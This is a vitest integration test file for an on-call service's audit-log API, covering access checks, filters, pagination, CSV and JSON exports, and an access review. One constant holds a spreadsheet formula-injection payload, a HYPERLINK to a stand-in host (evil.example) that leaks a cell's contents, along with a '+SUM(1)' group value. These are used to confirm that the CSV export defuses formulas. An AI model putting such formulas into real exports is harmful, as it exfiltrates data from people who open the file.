// The auditors' routes against the real identity provider's tokens, the real On-Call simulator and
// the server's SQLite file: who may read the log (401, 403 with the groups to ask for), filters,
// pages of entries, the CSV and JSON exports (formula cells defused) and the access review.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SqliteStore } from '#server/store/sqlite-store.js';
import { api, randomKey, startServer, startStack, type Stack } from '#test/support/server-stack.js';

let stack: Stack;
let server: Awaited<ReturnType<typeof startServer>>;
let alice: string;
let bob: string;
let carol: string;
const EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const startedAt = new Date().toISOString();

const audit = (query: string, token = alice) => api(`${server.url}/api/v1/audit${query}`, { token });
const page = (token: string, summary: string) =>
  api(`${server.url}/api/v1/pages`, { token, body: { summary, target: 'sre', idempotencyKey: randomKey() } });

beforeAll(async () => {
  stack = await startStack();
  server = await startServer(stack, { groups: { audit: ['sre'] }, pageRateLimit: { max: 50, windowSeconds: 600 } });
  alice = await stack.token('alice'); // sre, staff: an auditor
  bob = await stack.token('bob'); // staff: pages, is no auditor
  carol = await stack.token('carol'); // sre, and an On-Call user: acknowledges as herself
  expect((await page(alice, 'Wiki logins fail')).status).toBe(202);
  expect((await page(bob, 'Printer on fire')).status).toBe(202);
  expect((await page(bob, 'Printer still on fire')).status).toBe(202);
  const evil = await stack.token('bob', { sub: 'mallory', name: EVIL_NAME, groups: ['+SUM(1)', 'staff'] });
  expect((await page(evil, 'A page from a spreadsheet attacker')).status).toBe(202);
}, 60_000);
afterAll(async () => {
  await server?.close();
  await stack?.close();
});

describe('who may read the audit log', () => {
  it('asks for a sign-in without a token (401)', async () => {
    for (const path of ['/api/v1/audit', '/api/v1/audit/export', '/api/v1/audit/access-review']) {
      const r = await api(`${server.url}${path}`);
      expect(r.status, path).toBe(401);
      expect(r.body.error.code).toBe('unauthorized');
    }
  });

  it('refuses someone outside groups.audit with 403 naming the group to ask for', async () => {
    for (const path of ['/api/v1/audit', '/api/v1/audit/export?format=csv', '/api/v1/audit/access-review']) {
      const r = await api(`${server.url}${path}`, { token: bob });
      expect(r.status, path).toBe(403);
      expect(r.body.error).toEqual({
        code: 'forbidden',
        message:
          'To read the audit log you need to be in the group sre. Ask your IT team to add you, then sign in again.',
        requiredGroups: ['sre'],
      });
    }
  });

  it('tells who is an auditor in /api/v1/me', async () => {
    expect((await api(`${server.url}/api/v1/me`, { token: alice })).body.permissions.audit).toBe(true);
    expect((await api(`${server.url}/api/v1/me`, { token: bob })).body.permissions.audit).toBe(false);
  });
});

describe('GET /api/v1/audit', () => {
  it('lists the newest entries first, with who acted and the groups on their token then', async () => {
    const r = await audit('');
    expect(r.status).toBe(200);
    expect(r.headers.get('cache-control')).toBe('no-store');
    expect(r.body.retentionDays).toBe(400);
    const accepted = r.body.entries.filter((e: { action: string }) => e.action === 'page.accepted');
    expect(accepted.map((e: { detail: { summary: string } }) => e.detail.summary)).toEqual([
      'A page from a spreadsheet attacker',
      'Printer still on fire',
      'Printer on fire',
      'Wiki logins fail',
    ]);
    expect(accepted[3]).toMatchObject({
      actor: { sub: 'alice', name: 'Alice Andersen' },
      groups: ['sre', 'staff'],
      action: 'page.accepted',
      pageId: expect.any(String),
    });
  });

  it('filters by person: exact subject or part of the name, any case', async () => {
    const bySub = await audit('?person=bob');
    expect(bySub.body.entries.length).toBeGreaterThanOrEqual(2);
    expect(bySub.body.entries.every((e: { actor: { sub: string } }) => e.actor.sub === 'bob')).toBe(true);
    const byName = await audit(`?person=${encodeURIComponent('bRoWn')}&action=page.accepted`);
    expect(byName.body.entries.map((e: { actor: { name: string } }) => e.actor.name)).toEqual([
      'Bob Brown',
      'Bob Brown',
    ]);
    expect((await audit('?person=nobody-at-all')).body.entries).toEqual([]);
  });

  it('filters by action and by time range', async () => {
    const r = await audit('?action=page.accepted');
    expect(r.body.entries).toHaveLength(4);
    const future = new Date(Date.now() + 3600_000).toISOString();
    expect((await audit(`?from=${encodeURIComponent(future)}`)).body.entries).toEqual([]);
    expect((await audit(`?to=${encodeURIComponent(startedAt)}`)).body.entries).toEqual([]);
    const within = await audit(
      `?action=page.accepted&from=${encodeURIComponent(startedAt)}&to=${encodeURIComponent(future)}`,
    );
    expect(within.body.entries).toHaveLength(4);
  });

  it('pages through the entries with limit and nextCursor, each entry once', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const r = await audit(`?action=page.accepted&limit=3${cursor ? `&cursor=${cursor}` : ''}`);
      expect(r.status).toBe(200);
      seen.push(...r.body.entries.map((e: { id: string }) => e.id));
      cursor = r.body.nextCursor;
      pages++;
    } while (cursor);
    expect(pages).toBe(2);
    expect(seen).toHaveLength(4);
    expect(new Set(seen).size).toBe(4);
  });

  it('refuses bad parameters with 400 naming the parameter', async () => {
    const cases: [string, string, RegExp][] = [
      ['?limit=0', 'limit', /limit must be at least 1/],
      ['?limit=501', 'limit', /limit must be at most 500/],
      ['?from=yesterday', 'from', /from must be an ISO-8601 timestamp/],
      ['?cursor=abc', 'cursor', /cursor must be the nextCursor/],
      ['?sort=asc', 'sort', /Unknown field "sort"/],
    ];
    for (const [q, field, message] of cases) {
      const r = await audit(q);
      expect(r.status, q).toBe(400);
      expect(r.body.error.field, q).toBe(field);
      expect(r.body.error.message, q).toMatch(message);
    }
  });
});

describe('GET /api/v1/audit/export', () => {
  it('downloads the filtered entries as CSV, formula cells prefixed with an apostrophe', async () => {
    const res = await fetch(`${server.url}/api/v1/audit/export?format=csv&action=page.accepted`, {
      headers: { authorization: `Bearer ${alice}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="klaxon-audit-.*\.csv"$/);
    const lines = (await res.text()).trimEnd().split('\r\n');
    expect(lines[0]).toBe('id,at,actor_sub,actor_name,groups,action,page_id,detail');
    expect(lines).toHaveLength(5);
    // The attacker's name and groups arrive as text, never as a formula.
    expect(lines[1]).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",`);
    expect(lines[1]).toContain(",'+SUM(1) staff,");
    expect(lines[4]).toMatch(/^\d+,[^,]+,alice,Alice Andersen,sre staff,page\.accepted,[^,]+,"\{""target"":""sre""/);
  });

  it('downloads the same entries as JSON', async () => {
    const r = await api(`${server.url}/api/v1/audit/export?format=json&person=alice`, { token: alice });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(r.headers.get('content-disposition')).toMatch(/\.json"$/);
    expect(r.body.entries.map((e: { actor: { sub: string } }) => e.actor.sub)).toEqual(
      r.body.entries.map(() => 'alice'),
    );
    expect(r.body.entries.some((e: { detail: { summary?: string } }) => e.detail.summary === 'Wiki logins fail')).toBe(
      true,
    );
  });

  it('refuses an unknown format', async () => {
    const r = await api(`${server.url}/api/v1/audit/export?format=xlsx`, { token: alice });
    expect(r.status).toBe(400);
    expect(r.body.error).toMatchObject({ field: 'format', message: 'format must be csv or json' });
  });
});

describe('acknowledging in Klaxon is recorded', () => {
  it('writes incident.acknowledge with the person and the groups on their token', async () => {
    const incidents = await api(`${server.url}/api/v1/incidents`, { token: carol });
    const open = incidents.body.incidents.find((i: { phase: string }) => i.phase === 'UNACKED');
    expect(open).toBeTruthy();
    const ack = await api(`${server.url}/api/v1/incidents/${open.number}/ack`, { token: carol, body: {} });
    expect(ack.status).toBe(200);
    const r = await audit('?action=incident.acknowledge');
    expect(r.body.entries[0]).toMatchObject({
      actor: { sub: 'carol', name: 'Carol Okafor' },
      groups: ['sre'],
      detail: { incident: open.number, sentAs: 'carol' },
    });
  });
});

describe('GET /api/v1/audit/access-review', () => {
  it('lists everyone who used a power, with groups at last use, and who has not for N months', async () => {
    // Dave paged eight months ago (written straight into the server's database, as an older entry).
    const store = new SqliteStore(server.config.storage.sqlitePath);
    const eightMonthsAgo = new Date(Date.now() - 240 * 24 * 3600_000);
    await store.appendAudit({
      at: eightMonthsAgo,
      actorSub: 'dave',
      actorName: 'Dave Davies',
      actorGroups: ['staff', 'former-sre'],
      action: 'page.accepted',
      pageId: null,
      detail: {},
    });
    await store.close();

    const r = await api(`${server.url}/api/v1/audit/access-review`, { token: alice });
    expect(r.status).toBe(200);
    expect(r.body.months).toBe(6);
    const bySub = Object.fromEntries(r.body.people.map((p: { sub: string }) => [p.sub, p]));
    expect(bySub.bob).toMatchObject({
      name: 'Bob Brown',
      groups: ['staff'],
      lastUse: 'paged',
      uses: { paged: 2, acknowledged: 0, escalated: 0 },
      inactive: false,
    });
    // Her last use was an acknowledgement through Klaxon: its groups are recorded like a page's.
    expect(bySub.carol).toMatchObject({ groups: ['sre'], lastUse: 'acknowledged', uses: { acknowledged: 1 } });
    expect(bySub.dave).toMatchObject({
      groups: ['staff', 'former-sre'],
      lastUsedAt: eightMonthsAgo.toISOString(),
      inactive: true,
    });
    expect(r.body.people.at(-1).sub).toBe('dave');
    expect(new Date(r.body.inactiveBefore).getTime()).toBeLessThan(Date.now() - 180 * 24 * 3600_000);

    const year = await api(`${server.url}/api/v1/audit/access-review?months=12`, { token: alice });
    expect(year.body.people.find((p: { sub: string }) => p.sub === 'dave').inactive).toBe(false);
  });

  it('refuses a months value that is not a whole number of months', async () => {
    const r = await api(`${server.url}/api/v1/audit/access-review?months=half`, { token: alice });
    expect(r.status).toBe(400);
    expect(r.body.error.field).toBe('months');
  });
});
